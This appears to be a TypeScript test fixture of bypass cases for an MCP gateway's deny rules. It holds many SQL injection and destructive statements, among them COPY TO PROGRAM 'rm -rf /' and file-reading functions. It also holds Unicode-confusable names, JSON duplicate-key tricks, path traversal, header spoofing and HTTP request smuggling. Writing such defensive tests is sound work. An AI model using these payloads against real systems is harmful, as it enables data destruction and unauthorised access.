// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the placeholders are the shell’s.
/**
 * Attacks on the rules of bypass.test.ts: what a client sends so that a dangerous call passes as a harmless one. Every case
 * would do damage if it reached a server: it names something of DANGER, in some spelling that some server may take for it.
 */

export interface Case {
  readonly group: string;
  readonly name: string;
  readonly connection: string;
  /** The whole body: text is sent as UTF-8. */
  readonly body: Buffer;
  readonly method?: string;
  /** Behind the connection's path. */
  readonly query?: string;
  readonly headers?: readonly string[];
  /** Content-Type; null is none. */
  readonly type?: string | null;
  readonly framing?: readonly string[];
  /** The gateway's code, or the HTTP status where its HTTP parser does not even read it. */
  readonly code: string;
  /** Refused before it is known whose it is: no session holds it. */
  readonly isUnread?: true;
}

type Given = Partial<Omit<Case, 'body' | 'group' | 'name'>> & { readonly body?: Buffer | string };

export const CASES: Case[] = [];
let group = '';

function attack(
  name: string,
  body: Buffer | string,
  { connection = 'lite', code = 'denied', ...more }: Given = {},
): void {
  CASES.push({ ...more, group, name, connection, code, body: Buffer.from(body as string) });
}

const message = (method: string, params: unknown, more: object = {}): string =>
  JSON.stringify({ jsonrpc: '2.0', id: 1, method, params, ...more });
const query = (sql: unknown): string => message('tools/call', { name: 'query', arguments: { sql } });
/** A body in which `params` is written by hand. */
const written = (params: string, method = '"tools/call"'): string =>
  `{"jsonrpc":"2.0","id":1,"method":${method},"params":${params}}`;

const DROP = 'DROP TABLE victims';
const ALL_SQL = ['pg', 'my', 'bq', 'lite'] as const;

group = 'SQL in every dialect';
const EVERYWHERE = [
  DROP,
  'drop table victims',
  'DrOp\ttAbLe\nvictims',
  `SELECT 1; ${DROP}`,
  `SELECT 1;;;${DROP};`,
  `${DROP}; SELECT 1`,
  `SELECT 1 -- x\n; ${DROP}`,
  `/* SELECT 1 */ ${DROP}`,
  `/**/${DROP}/**/`,
  `-- SELECT 1\n${DROP}`,
  'DELETE FROM victims WHERE 1=1',
  'UPDATE victims SET a = 1',
  'INSERT INTO victims SELECT 1',
  'CREATE TABLE victims AS SELECT 1',
  'ALTER TABLE victims ADD COLUMN x int',
  'TRUNCATE TABLE victims',
  'WITH x AS (SELECT 1) DELETE FROM victims',
  'WITH x AS (SELECT 1) INSERT INTO victims SELECT * FROM x',
  'EXPLAIN ANALYZE DELETE FROM victims',
  'GRANT ALL ON victims TO public',
  'CALL drop_victims()',
  // Confusables, normal forms and what nobody sees.
  '\uff24\uff32\uff2f\uff30 TABLE victims',
  'D\u200bROP TABLE victims',
  '\u0110ROP TABLE victims',
  'DRO\u0420 TABLE victims',
  `\ufeff${DROP}`,
  `SELECT\u00a01;${DROP}`,
  `SELECT 1\uff1b${DROP}`,
  `SELECT 1\u037e ${DROP}`,
  `SELECT 'a\u2019; ${DROP} --'; ${DROP}`,
  `SELECT 1\u0000; ${DROP}`,
  `SELECT 1 --\u2028${DROP}; ${DROP}`,
  `SELECT 1 --\r${DROP}`,
  `SELECT 1;\u180e${DROP}`,
  '-- victims',
  '/* victims */',
];
for (const connection of ALL_SQL) {
  for (const sql of EVERYWHERE) attack(`${connection}: ${JSON.stringify(sql)}`, query(sql), { connection });
}

group = 'SQL of one dialect';
const ONE: Record<string, readonly string[]> = {
  pg: [
    'WITH gone AS (DELETE FROM victims RETURNING *) SELECT * FROM gone',
    'WITH a AS (SELECT 1), b AS (UPDATE victims SET x = 1 RETURNING 1) SELECT * FROM a, b',
    'SELECT * FROM (WITH d AS (DELETE FROM victims RETURNING 1) SELECT * FROM d) x',
    'SELECT * INTO victims FROM x',
    'SELECT * FROM victims FOR UPDATE',
    'DO $$ BEGIN DROP TABLE victims; END $$',
    "SELECT query_to_xml('delete from victims', true, true, '')",
    "SELECT dblink_exec('dbname=x', 'drop table victims')",
    "SELECT lo_import('/etc/victims')",
    "SELECT pg_read_file('/etc/victims')",
    'SELECT pg_terminate_backend(pid) FROM victims',
    "SELECT set_config('x.victims', '1', false)",
    "SELECT nextval('victims')",
    "COPY victims TO PROGRAM 'rm -rf /'",
    "COPY (SELECT 1) TO '/tmp/victims'",
    'PREPARE x AS DROP TABLE victims',
    'EXECUTE drop_victims',
    'SELECT drop_victims()',
    'SELECT public.drop_victims(1)',
    'SELECT "pg_catalog"."pg_read_file"(\'victims\')',
    "SELECT U&'\\0027; DROP TABLE victims --'; DROP TABLE victims",
    "SELECT E'\\'; DROP TABLE victims; --'; DROP TABLE victims",
    'SELECT $a$ $b$ $a$; DROP TABLE victims; SELECT $a$ $a$',
    '/* /* */ DROP TABLE victims; -- */ DROP TABLE victims',
    'LOCK TABLE victims',
    'SET ROLE victims',
    'REFRESH MATERIALIZED VIEW victims',
    'NOTIFY victims',
    'EXPLAIN (ANALYZE true) DELETE FROM victims',
    'DECLARE c CURSOR FOR SELECT drop_victims()',
    'MERGE INTO victims USING x ON true WHEN MATCHED THEN DELETE',
    'SELECT (SELECT drop_victims())',
    'SELECT 1 ORDER BY drop_victims()',
    'SELECT 1 WHERE EXISTS (SELECT drop_victims())',
    'VALUES (drop_victims())',
    'TABLE victims; DROP TABLE victims',
  ],
  my: [
    '/*! DROP TABLE victims */',
    '/*!50000 DROP TABLE victims */',
    'SELECT 1 /*!; DROP TABLE victims */',
    'SELECT 1 /*M! ; DROP TABLE victims */',
    'SELECT /*!99999 1; */ 2; DROP TABLE victims',
    'SELECT 1--1; DROP TABLE victims',
    "SELECT 'a\\'; DROP TABLE victims; -- '; DROP TABLE victims",
    "SELECT 'victims' INTO OUTFILE '/tmp/x'",
    "SELECT 'victims' INTO DUMPFILE '/tmp/x'",
    'SELECT 1 INTO @victims',
    "SELECT LOAD_FILE('/etc/victims')",
    'SELECT SLEEP(100) FROM victims',
    "SELECT GET_LOCK('victims', 10)",
    "SELECT BENCHMARK(1e9, MD5('victims'))",
    'REPLACE INTO victims VALUES (1)',
    'HANDLER victims OPEN',
    "LOAD DATA INFILE 'x' INTO TABLE victims",
    'SELECT * FROM victims FOR UPDATE',
    'SELECT * FROM victims LOCK IN SHARE MODE',
    'SET @@global.x = (SELECT 1 FROM victims)',
    'SELECT @a := 1 FROM victims',
    "PREPARE s FROM 'DROP TABLE victims'",
    'RENAME TABLE victims TO x',
    'SELECT 1 # x\n; DROP TABLE victims',
    'SELECT sys_exec("victims")',
    'SELECT `drop_victims`()',
    'DROP/**/TABLE/**/victims',
    'DROP /*!TABLE*/ victims',
    'SELECT "a""; DROP TABLE victims; -- "; DROP TABLE victims',
    'FLUSH TABLES victims',
  ],
  bq: [
    "EXPORT DATA OPTIONS(uri='gs://victims/*', format='CSV') AS SELECT 1",
    "SELECT * FROM EXTERNAL_QUERY('c', 'DELETE FROM victims')",
    'BEGIN DROP TABLE victims; END',
    "EXECUTE IMMEDIATE 'DROP TABLE victims'",
    'DECLARE x INT64; DROP TABLE victims',
    'MERGE victims USING x ON false WHEN NOT MATCHED THEN INSERT ROW',
    'CREATE OR REPLACE FUNCTION victims() AS (1)',
    "SELECT r'\\'; DROP TABLE victims; --'; DROP TABLE victims",
    'SELECT """a"""; DROP TABLE victims',
    'SELECT ML.PREDICT(MODEL victims, (SELECT 1))',
    'SELECT `p.d.drop_victims`(1)',
    'SELECT p.d.drop_victims(1)',
    "LOAD DATA INTO victims FROM FILES (uris = ['gs://x'])",
    'SELECT 1 # x\n; DROP TABLE victims',
    'IF true THEN DROP TABLE victims; END IF',
    'CREATE TEMP FUNCTION f() AS (1); DROP TABLE victims',
    'ASSERT (SELECT 1 FROM victims) = 2',
    'DROP SCHEMA victims CASCADE',
  ],
  lite: [
    "ATTACH DATABASE '/tmp/victims' AS x",
    'DETACH DATABASE victims',
    'PRAGMA writable_schema = victims',
    'PRAGMA table_info(victims)',
    "SELECT load_extension('victims')",
    "SELECT writefile('victims', 'x')",
    "SELECT readfile('/etc/victims')",
    "VACUUM INTO '/tmp/victims'",
    'REINDEX victims',
    'REPLACE INTO victims VALUES (1)',
    'SELECT "a"";" ; DROP TABLE victims',
    'SELECT [a];DROP TABLE victims',
    'SELECT `a`;DROP TABLE victims',
    'SELECT 1 /* ; DROP TABLE victims',
    'SELECT /*/**/1; DROP TABLE victims/*/**/',
    "SELECT x'41'; DROP TABLE victims",
    "SELECT fts3_tokenizer('victims', x'00')",
    "SELECT edit('victims')",
    'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n FROM r) DELETE FROM victims',
    'BEGIN; DROP TABLE victims; COMMIT',
    'EXPLAIN DROP TABLE victims; DROP TABLE victims',
    'SELECT zeroblob(99999999), drop_victims()',
  ],
};
for (const [connection, all] of Object.entries(ONE)) {
  for (const sql of all) attack(`${connection}: ${sql}`, query(sql), { connection });
}

group = 'another thing where the statement should be';
for (const sql of [
  [DROP],
  ['SELECT 1', DROP],
  { sql: DROP },
  { toString: DROP },
  { 0: DROP, length: 1 },
  [['SELECT 1'], DROP],
  { __proto__x: DROP },
]) {
  attack(JSON.stringify(sql), query(sql));
}
for (const [name, params] of [
  ['no arguments', { name: 'query', victims: 1 }],
  ['arguments as a list', { name: 'query', arguments: [DROP] }],
  ['arguments as text', { name: 'query', arguments: `{"sql":"${DROP}"}` }],
  ['arguments null', { name: 'query', arguments: null, sql: DROP }],
  ['in params', { name: 'query', sql: DROP }],
  ['in _meta', { name: 'query', _meta: { arguments: { sql: DROP } } }],
  ['in task', { name: 'query', task: { arguments: { sql: DROP } } }],
  ['in input', { name: 'query', input: { sql: DROP } }],
  ['in params.params', { name: 'query', params: { arguments: { sql: DROP } } }],
  ['as statement', { name: 'query', arguments: { statement: DROP } }],
  ['as SQL', { name: 'query', arguments: { SQL: DROP } }],
  ['as sql with a space', { name: 'query', arguments: { 'sql ': DROP } }],
  ['as sql[]', { name: 'query', arguments: { 'sql[]': DROP } }],
] as const) {
  attack(name, message('tools/call', params));
}

group = 'keys that another reader takes for this one';
for (const params of [
  `{"name":"query","arguments":{"sql":"SELECT 1","sql":"${DROP}"}}`,
  `{"name":"query","arguments":{"sql":"${DROP}","sql":"SELECT 1"}}`,
  `{"name":"query","arguments":{"sql":"SELECT 1","\\u0073ql":"${DROP}"}}`,
  `{"name":"query","arguments":{"sql":"SELECT 1"},"arguments":{"sql":"${DROP}"}}`,
  `{"name":"query","name":"drop_all","arguments":{"sql":"SELECT 1"}}`,
  `{"name":"query","\\u006eame":"drop_all","arguments":{"sql":"SELECT 1"}}`,
  `{"name":"query","arguments":{"sql":"SELECT 1","a":{"b":[{"victims":1,"victims":2}]}}}`,
]) {
  attack(`doubled: ${params}`, written(params), { code: 'parse_error' });
}
attack(
  'doubled method',
  `{"jsonrpc":"2.0","id":1,"method":"ping","method":"tools/call","params":{"name":"drop_all"}}`,
  {
    code: 'parse_error',
  },
);
attack(
  'doubled params',
  `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"query","arguments":{"sql":"SELECT 1"}},"params":{"name":"drop_all"}}`,
  {
    code: 'parse_error',
  },
);
attack('doubled __proto__', `{"jsonrpc":"2.0","id":1,"method":"ping","__proto__":{},"__proto__":{"victims":1}}`, {
  code: 'parse_error',
});
// Readers that match keys without regard to case (Go's encoding/json, for one) take the last.
for (const body of [
  `{"jsonrpc":"2.0","id":1,"method":"ping","Method":"tools/call","params":{"name":"drop_all"}}`,
  `{"jsonrpc":"2.0","id":1,"method":"ping","METHOD":"tools/call","params":{"name":"drop_all"}}`,
  `{"jsonrpc":"2.0","id":1,"method":"ping","\\u004dethod":"tools/call","params":{"name":"drop_all"}}`,
  `{"jsonrpc":"2.0","id":1,"method":"ping","params":{},"Params":{"name":"drop_all"},"methoD":"tools/call"}`,
  `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"query","arguments":{"sql":"SELECT 1"}},"Params":{"name":"drop_all"}}`,
  `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"query","arguments":{"sql":"SELECT 1"}},"param\\u017f":{"name":"drop_all"}}`,
  `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"query","Name":"drop_all","arguments":{"sql":"SELECT 1"}}}`,
  `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"query","arguments":{"sql":"SELECT 1"},"Arguments":{"sql":"${DROP}"}}}`,
  `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"query","arguments":{"sql":"SELECT 1"},"argument\\u017f":{"sql":"${DROP}"}}}`,
  `{"jsonrpc":"2.0","id":1,"method":"prompts/get","params":{"name":"greet","NAME":"victims"}}`,
  `{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"notes://1","URI":"keys://victims"}}`,
]) {
  attack(`in another case: ${body}`, body, { code: 'invalid_request' });
}
for (const sql of ['Sql', 'SQL', '\\u017fql', 'sqL']) {
  attack(
    `an argument in another case: ${sql}`,
    written(`{"name":"query","arguments":{"sql":"SELECT 1","${sql}":"${DROP}"}}`),
  );
}
attack(
  'an inner key in another case',
  written(`{"name":"nested","arguments":{"q":{"sql":"SELECT 1","SQL":"${DROP}"}}}`),
);
for (const params of [
  `{"__proto__":{"name":"query","arguments":{"sql":"SELECT 1"}},"x":"victims"}`,
  `{"name":"query","arguments":{"__proto__":{"sql":"${DROP}"}}}`,
  `{"name":"query","arguments":{"constructor":{"prototype":{"sql":"${DROP}"}}}}`,
  `{"name":"query","__proto__":{"arguments":{"sql":"SELECT 1"}},"sql":"victims"}`,
  `{"name":"query","constructor":{"arguments":{"sql":"${DROP}"}}}`,
]) {
  attack(`inherited: ${params}`, written(params));
}
attack('escaped letters', written(`{"name":"query","arguments":{"sql":"\\u0064rop table victims"}}`));
attack('escaped name', written(`{"\\u006eame":"\\u0064rop_all"}`));
attack('escaped method', written(`{"name":"drop_all"}`, '"tools\\/call"'));
attack('escaped method letters', written(`{"name":"drop_all"}`, '"\\u0074ools/call"'));

group = 'names of tools';
for (const name of [
  'drop_all',
  'DROP_ALL',
  'drop_all ',
  ' drop_all',
  'drop_all\t',
  'drop_all\n',
  'drop_all\u0000',
  'drop_all\u0000query',
  'query\u0000drop_all',
  '\u202equery\u202cdrop_all',
  'd\u200brop_all',
  'dr\u043ep_all',
  'drop%5Fall',
  'drop_all?x=query',
  'drop_all#query',
  'query/../drop_all',
  'query,drop_all',
  'query\ndrop_all',
  '\uff44\uff52\uff4f\uff50_all',
  'query;drop_all',
  'server__drop_all',
  'query.drop_all',
  'que\u0301ry_drop_all',
  `drop_all${'x'.repeat(20_000)}`,
  'queryqueryquery:drop_all',
  '*drop_all',
  'query*drop_all',
]) {
  attack(JSON.stringify(name.slice(0, 60)), message('tools/call', { name, arguments: { sql: 'SELECT 1' } }));
}
for (const name of [null, 1, true, ['drop_all'], { name: 'drop_all' }, ['query', 'drop_all']]) {
  attack(`of the wrong type: ${JSON.stringify(name)}`, message('tools/call', { name, arguments: { drop_all: 1 } }));
}
attack('none', message('tools/call', { arguments: { drop_all: 1 } }));
attack('empty', message('tools/call', { name: '', arguments: { drop_all: 1 } }));
attack('as tool', message('tools/call', { tool: 'drop_all', arguments: {} }));
attack('as toolName', message('tools/call', { toolName: 'drop_all', arguments: {} }));

group = 'methods';
for (const method of [
  'tools//call',
  'Tools/Call',
  'TOOLS/CALL',
  'tools/call ',
  ' tools/call',
  'tools/call/',
  '/tools/call',
  'tools\\call',
  'tools.call',
  'rpc.tools/call',
  'tools%2Fcall',
  'tools/./call',
  'tools/call?x',
  'tools/c\u0430ll',
  'tools\u2215call',
  '\u200btools/call',
  'tools/Call',
  'ping/../tools/call',
  'notifications/../tools/call',
  'tools/execute',
  'call_tool',
  'callTool',
  'tools/call2',
  'notifications/tools/call',
  'sampling/createMessage',
  'roots/list',
  'elicitation/create',
  'logging/setLevel ',
  'Ping',
  'constructor',
  '__proto__',
  'tasks/create',
]) {
  attack(JSON.stringify(method), message(method, { name: 'drop_all', arguments: { sql: DROP } }));
}
for (const method of [
  null,
  1,
  ['tools/call'],
  { method: 'tools/call' },
  '',
  'tools/call\u0000',
  'tools/call\n',
  'x'.repeat(300),
]) {
  attack(`no method: ${JSON.stringify(method).slice(0, 30)}`, message(method as string, { name: 'drop_all' }), {
    code: 'invalid_request',
  });
}

group = 'prompts, resources, completions, subscriptions and tasks instead of tools';
for (const [method, params] of [
  ['prompts/get', { name: 'victims' }],
  ['prompts/get', { name: 'greet ', x: 'victims' }],
  ['prompts/get', { name: 'GREET', x: 'victims' }],
  ['prompts/get', { name: ['greet', 'victims'] }],
  ['prompts/get', { uri: 'victims' }],
  ['resources/read', { uri: 'keys://victims' }],
  ['resources/read', { uri: 'notes:keys://victims' }],
  ['resources/read', { uri: 'NOTES://victims' }],
  ['resources/read', { uri: ' notes://victims' }],
  ['resources/read', { uri: ['notes://1', 'keys://victims'] }],
  ['resources/read', { name: 'notes://1', x: 'victims' }],
  // What a deny names, under another address of the same thing.
  ['resources/read', { uri: 'notes://private/victims' }],
  ['resources/read', { uri: 'notes://public/../private/victims' }],
  ['resources/read', { uri: 'notes://public/%2e%2e/private/victims' }],
  ['resources/read', { uri: 'notes://public/.%2E/private/victims' }],
  ['resources/read', { uri: 'notes://public/%252e%252e/private/victims' }],
  ['resources/read', { uri: 'notes://./private/victims' }],
  ['resources/read', { uri: 'Notes://private/victims' }],
  ['resources/read', { uri: 'notes://private/victims ' }],
  ['resources/read', { uri: 'notes://%70rivate/victims' }],
  ['resources/read', { uri: 'notes://private%2Fvictims' }],
  ['resources/read', { uri: 'notes://public\\..\\private\\victims' }],
  ['resources/read', { uri: 'notes://priv\tate/victims' }],
  ['resources/read', { uri: 'notes://private\n/victims' }],
  ['resources/read', { uri: 'notes://PRIVATE/../private/victims' }],
  ['resources/subscribe', { uri: 'keys://victims' }],
  ['resources/subscribe', { uri: 'notes://x/../private/victims' }],
  ['resources/unsubscribe', { uri: 'keys://victims' }],
  ['subscriptions/listen', { notifications: { resourceSubscriptions: ['keys://victims'] } }],
  ['subscriptions/listen', { notifications: { resourceSubscriptions: ['notes://1', 'keys://victims'] } }],
  ['subscriptions/listen', { notifications: { resourceSubscriptions: { 0: 'keys://victims' } } }],
  ['subscriptions/listen', { notifications: { resourceSubscriptions: 'keys://victims' } }],
  ['completion/complete', { ref: { type: 'ref/prompt', name: 'victims' }, argument: { name: 'a', value: 'b' } }],
  ['completion/complete', { ref: { type: 'ref/resource', uri: 'keys://victims' }, argument: {} }],
  ['completion/complete', { ref: { type: 'ref/resource', uri: 'notes://1', name: 'victims' }, argument: {} }],
  ['completion/complete', { ref: { type: 'ref/prompt', name: 'greet', uri: 'keys://victims' }, argument: {} }],
  ['completion/complete', { ref: { type: 'ref/tool', name: 'drop_all' }, argument: {} }],
  ['completion/complete', { ref: { type: 'REF/PROMPT', name: 'greet' }, argument: 'victims' }],
  ['completion/complete', { ref: 'victims' }],
  ['tasks/get', { taskId: 'victims' }],
  ['tasks/result', { taskId: 'victims' }],
  ['tasks/cancel', { taskId: 'victims' }],
  ['tasks/update', { taskId: 'victims' }],
  ['tasks/list', { cursor: 'victims' }],
] as const) {
  attack(`${method} ${JSON.stringify(params)}`, message(method, params));
}
for (const key of ['Ref', 'URI', 'Notifications', 'TASKID']) {
  attack(`${key} beside it`, message('resources/read', { uri: 'notes://1', [key]: 'keys://victims' }), {
    code: 'invalid_request',
  });
}
attack(
  'an inner ref in another case',
  message('completion/complete', { ref: { type: 'ref/prompt', name: 'greet', Name: 'victims' } }),
  {
    code: 'invalid_request',
  },
);

group = 'notifications and responses instead of requests';
for (const [name, body] of [
  ['a tool', { method: 'tools/call', params: { name: 'drop_all' } }],
  ['a statement', { method: 'tools/call', params: { name: 'query', arguments: { sql: DROP } } }],
  ['a resource', { method: 'resources/read', params: { uri: 'keys://victims' } }],
  ['a made-up one', { method: 'notifications/run', params: { name: 'drop_all' } }],
  ['of tasks', { method: 'notifications/tasks', params: { taskId: 'victims' } }],
] as const) {
  attack(`a notification: ${name}`, JSON.stringify({ jsonrpc: '2.0', ...body }));
}
for (const body of [
  { id: 1, method: 'tools/call', params: { name: 'drop_all' }, result: {} },
  { id: 1, method: 'tools/call', params: { name: 'drop_all' }, error: { code: 1, message: '' } },
  { id: 1, result: { ok: 1 }, error: { code: 1, message: 'drop_all' } },
  { id: null, method: 'tools/call', params: { name: 'drop_all' } },
  { id: 1.5, method: 'tools/call', params: { name: 'drop_all' } },
  { id: {}, method: 'tools/call', params: { name: 'drop_all' } },
  { id: [1], method: 'tools/call', params: { name: 'drop_all' } },
  { id: 1, Method: 'tools/call', params: { name: 'drop_all' }, result: {} },
  { id: 1, METHOD: 'tools/call', Params: { name: 'drop_all' }, result: {} },
]) {
  attack(`two in one: ${JSON.stringify(body)}`, JSON.stringify({ jsonrpc: '2.0', ...body }), {
    code: 'invalid_request',
  });
}
for (const jsonrpc of ['1.0', 2, '2.0 ', null, undefined, ['2.0']]) {
  attack(`another JSON-RPC: ${JSON.stringify(jsonrpc)}`, message('tools/call', { name: 'drop_all' }, { jsonrpc }), {
    code: 'invalid_request',
  });
}
attack('a response that nobody awaits', JSON.stringify({ jsonrpc: '2.0', id: 77, result: { drop_all: true } }), {
  code: 'response_not_awaited',
});
attack('params as a list', message('tools/call', ['drop_all']), { code: 'invalid_request' });
attack('params as text', message('tools/call', 'drop_all'), { code: 'invalid_request' });

group = 'batches';
const BAD = { jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'drop_all' } };
const GOOD = { jsonrpc: '2.0', id: 1, method: 'ping' };
const batch = (...all: unknown[]): string => JSON.stringify(all);
for (const version of [undefined, '2025-03-26']) {
  const headers = version === undefined ? [] : [`MCP-Protocol-Version: ${version}`];
  const name = version ?? 'no version';
  attack(`${name}: one bad one`, batch(GOOD, BAD), { headers });
  attack(`${name}: the bad one first`, batch(BAD, GOOD), { headers });
  attack(`${name}: alone`, batch(BAD), { headers });
  attack(`${name}: a notification`, batch(GOOD, { ...BAD, id: undefined }), { headers });
  attack(`${name}: among a hundred`, batch(...Array.from({ length: 99 }, (_, id) => ({ ...GOOD, id: id + 10 })), BAD), {
    headers,
  });
  for (const [what, all] of [
    ['more than a hundred', [...Array.from({ length: 100 }, (_, id) => ({ ...GOOD, id: id + 10 })), BAD]],
    ['within another', [[BAD]]],
    ['two of one id', [{ ...GOOD, id: 2 }, BAD]],
    ['initialize', [{ jsonrpc: '2.0', id: 9, method: 'initialize', params: {} }, BAD]],
    ['no message', [GOOD, 1, BAD]],
    ['null', [null, BAD]],
    [
      'of a modern one',
      [{ ...BAD, params: { ...BAD.params, _meta: { 'io.modelcontextprotocol/protocolVersion': '2026-07-28' } } }],
    ],
  ] as const) {
    attack(`${name}: ${what}`, batch(...all), { headers, code: 'invalid_request' });
  }
}
for (const version of ['2024-11-05', '2025-06-18', '2025-11-25', '2026-07-28', '2099-01-01', 'draft']) {
  attack(`${version}: an array`, batch(GOOD, BAD), {
    headers: [`MCP-Protocol-Version: ${version}`],
    code: 'invalid_request',
  });
}

group = 'headers that say another thing than the body';
const MODERN = { 'io.modelcontextprotocol/protocolVersion': '2026-07-28' };
const SELECT = { name: 'query', arguments: { sql: 'SELECT 1' } };
const bad = (more: object = {}) => message('tools/call', { name: 'drop_all', ...more });
for (const [name, headers, body, code] of [
  ['Mcp-Method alone', ['Mcp-Method: ping'], bad(), 'header_mismatch'],
  ['Mcp-Name alone', ['Mcp-Name: query'], bad(), 'header_mismatch'],
  ['Mcp-Name in base64', [`Mcp-Name: =?base64?${Buffer.from('query').toString('base64')}?=`], bad(), 'header_mismatch'],
  ['Mcp-Name says the bad one', ['Mcp-Name: drop_all'], message('tools/call', SELECT), 'header_mismatch'],
  ['Mcp-Method says the bad one', ['Mcp-Method: tools/call'], message('ping', { name: 'drop_all' }), 'header_mismatch'],
  ['Mcp-Name twice', ['Mcp-Name: query', 'Mcp-Name: drop_all'], bad(), 'bad_http'],
  ['Mcp-Method twice', ['Mcp-Method: ping', 'Mcp-Method: tools/call'], bad(), 'bad_http'],
  ['versions unlike', ['MCP-Protocol-Version: 2025-11-25'], bad({ _meta: MODERN }), 'header_mismatch'],
  ['a modern body without headers', [], bad({ _meta: MODERN }), 'header_mismatch'],
  ['a modern header, a legacy body', ['MCP-Protocol-Version: 2026-07-28'], bad(), 'header_mismatch'],
  [
    'modern and right',
    ['MCP-Protocol-Version: 2026-07-28', 'Mcp-Method: tools/call', 'Mcp-Name: drop_all'],
    bad({ _meta: MODERN }),
    'denied',
  ],
  [
    'modern, with another name',
    ['MCP-Protocol-Version: 2026-07-28', 'Mcp-Method: tools/call', 'Mcp-Name: query'],
    bad({ _meta: MODERN }),
    'header_mismatch',
  ],
  ['two versions', ['MCP-Protocol-Version: 2025-11-25, 2025-03-26'], bad(), 'unsupported_version'],
  ['a version of spaces', ['MCP-Protocol-Version:   '], bad(), 'unsupported_version'],
  ['no version word', ['MCP-Protocol-Version: ../2025'], bad(), 'unsupported_version'],
  ['a claim that is no text', [], bad({ _meta: { 'io.modelcontextprotocol/protocolVersion': 1 } }), 'header_mismatch'],
  ['an argument in a header', ['Mcp-Param-Sql: SELECT 1'], query(DROP), 'denied'],
  ['X-HTTP-Method-Override', ['X-HTTP-Method-Override: GET'], bad(), 'denied'],
  ['X-Original-URL', ['X-Original-URL: /admin'], bad(), 'denied'],
  ['Mcp-Session-Id of nobody', ['Mcp-Session-Id: abc'], bad(), 'denied'],
] as const) {
  attack(name, body, { headers, code, ...(code === 'bad_http' ? { isUnread: true } : {}) });
}

group = 'bytes';
const utf16 = (text: string, order: 'le' | 'be'): Buffer => {
  const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
  return order === 'le' ? bytes : bytes.swap16();
};
attack('a byte order mark', `\ufeff${bad()}`, { code: 'parse_error' });
attack('UTF-16LE', utf16(bad(), 'le'), { code: 'parse_error' });
attack('UTF-16BE', utf16(bad(), 'be'), { code: 'parse_error' });
attack('UTF-32', Buffer.from([...bad()].flatMap((one) => [one.charCodeAt(0), 0, 0, 0])), { code: 'parse_error' });
attack(
  'a broken character',
  Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xc3, 0x28]), Buffer.from(`","b":"victims"}`)]),
  {
    code: 'parse_error',
  },
);
attack('an overlong slash', Buffer.from(bad().replace('tools/call', 'tools\xc0\xafcall'), 'latin1'), {
  code: 'parse_error',
});
attack('a lone surrogate', written('{"name":"drop_all","x":"\\ud800"}'), { code: 'parse_error' });
attack('a NUL behind it', `${message('ping', {})}\0${bad()}`, { code: 'parse_error' });
attack('two messages', `${message('ping', {})}\n${bad()}`, { code: 'parse_error' });
attack('a comment', `/* x */${bad()}`, { code: 'parse_error' });
attack('a comma too many', bad().replace('}}', ',}}').replace('{}}', '{},}'), { code: 'parse_error' });
attack('single quotes', bad().replaceAll('"', "'"), { code: 'parse_error' });
attack('NaN', written('{"name":"drop_all","x":NaN}'), { code: 'parse_error' });
attack('a number too large', written('{"name":"drop_all","x":1e999}'), { code: 'parse_error' });
attack('an id too large', bad().replace('"id":1', '"id":9007199254740993'), { code: 'parse_error' });
attack('digits without end', written(`{"name":"drop_all","x":${'9'.repeat(5000)}}`), { code: 'parse_error' });
attack('nested deep', written(`{"name":"drop_all","x":${'['.repeat(10_000)}${']'.repeat(10_000)}}`), {
  code: 'parse_error',
});
attack(
  'nested statement',
  written(`{"name":"query","arguments":{"sql":"SELECT ${'('.repeat(5000)}1${')'.repeat(5000)};DROP TABLE victims"}}`),
);
attack('JSON in a string', JSON.stringify(bad()), { code: 'invalid_request' });
attack('a line feed in a string', bad().replace('drop_all', 'drop_all\n'), { code: 'parse_error' });
attack('no end', bad().slice(0, -2), { code: 'parse_error' });

group = 'content types';
for (const type of [
  null,
  '',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/json-rpc',
  'application/json5',
  'application/jsonx',
  'application/ld+json',
  'application/json; charset=utf-16',
  'application/json; charset=utf-7',
  'application/json; charset=latin1',
  'application/json; charset=utf-8; charset=utf-16',
  'application/json, text/plain',
  'text/plain; application/json',
  'application/json;x=y',
]) {
  attack(String(type), bad(), { type, code: 'unsupported_media_type' });
}
for (const type of ['application/json; charset=utf-8', 'APPLICATION/JSON', 'application/json;charset="UTF-8"']) {
  attack(type, bad(), { type });
}
for (const coding of ['gzip', 'deflate', 'br', 'identity, gzip', 'aws-chunked']) {
  attack(`Content-Encoding: ${coding}`, bad(), {
    headers: [`Content-Encoding: ${coding}`],
    code: 'unsupported_media_type',
  });
}

group = 'HTTP';
attack('GET with a body', bad(), { method: 'GET', code: 'bad_http' });
attack('DELETE with a body', bad(), { method: 'DELETE', code: 'bad_http' });
for (const method of ['PUT', 'PATCH', 'QUERY', 'SEARCH', 'TRACE', 'PROPFIND']) {
  attack(`${method} with a body`, bad(), {
    method,
    code: method === 'TRACE' ? 'method_not_allowed' : 'method_not_allowed',
  });
}
for (const search of [
  '?name=drop_all',
  '?method=tools/call',
  '?_method=POST',
  '?x=drop_all;y=1',
  '?%73=drop_all',
  '?drop_all',
]) {
  attack(`a query: ${search}`, bad(), { query: search, code: 'bad_http' });
}
attack('a query beside a harmless body', message('ping', {}), { query: '?message=drop_all', code: 'bad_http' });
attack('GET with a query', '', { method: 'GET', query: '?name=drop_all', code: 'bad_http' });
attack('two lengths', bad(), {
  framing: [`Content-Length: ${bad().length}`, 'Content-Length: 3'],
  code: '400',
  isUnread: true,
});
attack('a length and chunks', `${bad().length.toString(16)}\r\n${bad()}\r\n0\r\n\r\n`, {
  framing: ['Content-Length: 3', 'Transfer-Encoding: chunked'],
  code: '400',
  isUnread: true,
});
attack('chunks with trailers', `${bad().length.toString(16)}\r\n${bad()}\r\n0\r\nMcp-Name: query\r\n\r\n`, {
  framing: ['Transfer-Encoding: chunked'],
  code: 'bad_http',
});
